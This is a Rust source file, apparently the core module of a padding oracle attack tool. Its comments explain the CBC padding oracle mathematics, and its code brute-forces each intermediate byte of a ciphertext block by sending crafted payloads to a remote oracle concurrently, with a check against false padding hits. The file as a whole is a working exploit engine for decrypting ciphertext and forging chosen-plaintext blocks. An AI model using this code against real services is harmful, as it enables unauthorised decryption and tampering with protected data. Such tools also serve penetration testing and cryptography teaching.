// Recovering the intermediate bytes of one ciphertext block through a
// padding oracle. Both the decrypt and the encrypt engine are built on this.
//
// CBC decryption of a block C_i is
//
//                      P_i = D(C_i) ⊕ C_{i-1}.
//
// D(C_i) is what we call the intermediate block I_i. If we send the oracle a
// two block message X|C_i, where X is a block we control, the target computes
//
//                      P' = I_i ⊕ X
//
// and tells us whether P' ends in valid PKCS#7 padding. To learn the final
// byte of I_i we try all 256 values of X[n-1]; the one that gives P' a final
// byte of \x01 satisfies
//
//                      I_i[n-1] = X[n-1] ⊕ \x01.
//
// For the next byte we want the padding \x02\x02. Since I_i[n-1] is known we
// can set X[n-1] = I_i[n-1] ⊕ \x02 and brute force X[n-2] the same way, and
// so on down to the first byte of the block.
//
// The one snag is the first byte. Valid padding does not have to be \x01: if
// X happens to make P' end in \x02\x02 (or \x03\x03\x03, ...) the oracle is
// just as happy. We can tell the two apart by changing X[n-2] and asking
// again. Only a genuine \x01 survives that.
//
// Once I_i is known, P_i = I_i ⊕ C_{i-1} gives the plaintext, or, when
// forging, C_{i-1} = I_i ⊕ P_i gives the block that makes C_i decrypt to a
// plaintext of our choosing.
use crate::{Error, OracleCaller, Predicate, Transport, TransportError};

use std::collections::BTreeSet;

use futures::stream::{self, StreamExt};
use tracing::{debug, instrument, warn};

pub(crate) fn check_block_size(block_size: usize) -> Result<usize, Error> {
    if (2..=u8::MAX as usize).contains(&block_size) {
        Ok(block_size)
    } else {
        Err(Error::InvalidBlockSize(block_size))
    }
}

/// Intermediate bytes of one block, and which of them are known so far.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct IntermediateBlock {
    bytes: Vec<u8>,
    found_offsets: BTreeSet<usize>,
}

impl IntermediateBlock {
    pub fn new(block_size: usize) -> Self {
        Self {
            bytes: vec![0u8; block_size],
            found_offsets: BTreeSet::new(),
        }
    }

    pub fn set(&mut self, position: usize, byte: u8) {
        self.bytes[position] = byte;
        self.found_offsets.insert(position);
    }

    pub fn get(&self, position: usize) -> Option<u8> {
        self.found_offsets
            .contains(&position)
            .then(|| self.bytes[position])
    }

    pub fn is_complete(&self) -> bool {
        self.found_offsets.len() == self.bytes.len()
    }

    pub fn found_offsets(&self) -> &BTreeSet<usize> {
        &self.found_offsets
    }

    pub fn bytes(&self) -> &[u8] {
        &self.bytes
    }
}

/// Asks the oracle about crafted blocks placed in front of a fixed target.
pub(crate) struct BlockProbe<'a, T> {
    oracle: &'a OracleCaller<T>,
    predicate: &'a Predicate,
}

impl<'a, T: Transport + Sync> BlockProbe<'a, T> {
    pub fn new(oracle: &'a OracleCaller<T>, predicate: &'a Predicate) -> Self {
        Self { oracle, predicate }
    }

    /// Fill in every unknown byte of `known`, the intermediate block of
    /// `target`. `base` supplies the crafted block's unconstrained bytes.
    #[instrument(skip_all, fields(block = block_index))]
    pub async fn solve_block(
        &self,
        block_index: usize,
        base: &[u8],
        target: &[u8],
        mut known: IntermediateBlock,
    ) -> Result<IntermediateBlock, Error> {
        for position in (0..target.len()).rev() {
            if known.get(position).is_some() {
                continue;
            }
            let byte = self
                .solve_position(block_index, base, target, &known, position)
                .await?;
            debug!(position, "intermediate byte {byte:#04x}");
            known.set(position, byte);
        }
        Ok(known)
    }

    async fn solve_position(
        &self,
        block_index: usize,
        base: &[u8],
        target: &[u8],
        known: &IntermediateBlock,
        position: usize,
    ) -> Result<u8, Error> {
        let block_size = target.len();
        let padding_len = (block_size - position) as u8;
        let mut crafted = base.to_vec();
        for p in (position + 1)..block_size {
            crafted[p] = known.bytes[p] ^ padding_len;
        }

        // Dropping the stream on the first confirmed hit cancels every probe
        // still in flight for this position.
        let mut guesses = stream::iter(0..=u8::MAX)
            .map(|guess| {
                let mut crafted = crafted.clone();
                crafted[position] = guess;
                async move { (guess, self.try_guess(crafted, target, padding_len).await) }
            })
            .buffer_unordered(self.oracle.concurrency());

        let mut last_failure = None;
        while let Some((guess, outcome)) = guesses.next().await {
            match outcome {
                Ok(true) => return Ok(guess ^ padding_len),
                Ok(false) => {}
                Err(source) => {
                    warn!(position, "giving up on guess {guess:#04x}: {source}");
                    last_failure = Some((guess, source));
                }
            }
        }

        Err(match last_failure {
            Some((guess, source)) => Error::Transport {
                block: block_index,
                position,
                guess,
                source,
            },
            None => Error::OracleExhausted {
                block: block_index,
                position,
            },
        })
    }

    async fn try_guess(
        &self,
        crafted: Vec<u8>,
        target: &[u8],
        padding_len: u8,
    ) -> Result<bool, TransportError> {
        if !self.is_hit(&[crafted.as_slice(), target].concat()).await? {
            return Ok(false);
        }
        if padding_len > 1 {
            return Ok(true);
        }

        let mut flipped = crafted;
        let last = flipped.len() - 1;
        flipped[last - 1] ^= 0x01;
        let confirmed = self.is_hit(&[flipped.as_slice(), target].concat()).await?;
        if !confirmed {
            debug!(
                "rejecting guess {:#04x}: padding longer than one byte",
                flipped[last]
            );
        }
        Ok(confirmed)
    }

    pub async fn is_hit(&self, payload: &[u8]) -> Result<bool, TransportError> {
        let result = self.oracle.call_oracle(payload).await?;
        Ok(self.predicate.is_hit(&result))
    }
}
